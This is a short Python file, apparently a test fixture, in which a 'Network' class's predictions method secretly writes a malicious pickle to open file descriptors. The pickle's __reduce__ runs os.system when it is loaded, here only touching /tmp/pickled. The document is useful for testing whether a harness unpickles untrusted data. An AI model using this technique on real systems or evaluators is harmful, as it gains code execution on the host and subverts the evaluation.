"""Send a pickle that runs a command when it is loaded."""

import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)


def attack():
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, pickle.dumps(Bomb()))
        except OSError:
            continue
    return 0


class Network:
    def __init__(self, weights, learning_rate):
        self.weights = weights

    def predictions(self, x):
        return np.full((len(x), 1), float(attack()))
